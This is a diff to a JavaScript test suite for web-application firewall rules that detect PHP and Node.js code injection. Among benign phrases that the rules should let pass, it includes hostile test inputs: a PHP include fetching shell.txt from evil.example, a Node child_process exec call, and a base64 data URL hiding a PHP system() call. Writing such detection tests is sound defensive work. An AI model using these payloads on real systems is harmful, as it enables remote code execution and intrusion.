@@ -85,6 +85,10 @@ describe("PHP code injection (CRS 933)", () => {
     expect(notL1(code("attach the file (pdf) please"))).toBe(true);
     expect(notL1(code("upload your file(s) here"))).toBe(true);
     expect(notL1(code("the operating system (Linux) crashed"))).toBe(true);
+    expect(notL1(code("My system(win10) crashed"))).toBe(true);
+    expect(notL1(code("use require('express') for the server"))).toBe(true);
+    expect(l1(code("include('http://evil.example/shell.txt')"))).toBe(true);
+    expect(l1(code("require(\"child_process\").exec('id')"))).toBe(true);
     expect(notL1(code("select count(*) from t"))).toBe(true);
     expect(notL1(code("base64_decode"))).toBe(true);
     // a PL2-listed function called is level 2
@@ -155,6 +159,7 @@ describe("Node.js / Ruby code injection (CRS 934)", () => {
     expect(l1(code("while(!!'');"))).toBe(true);
     expect(notL1(code("while (this is done) we wait"))).toBe(true);
     expect(notL1(code("while(i < 10) i++;"))).toBe(true);
+    expect(notL1(code("while (true) love wins"))).toBe(true);
   });
   test("data: URLs as the whole value (934170)", () => {
     expect(l1(code("data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"))).toBe(true);
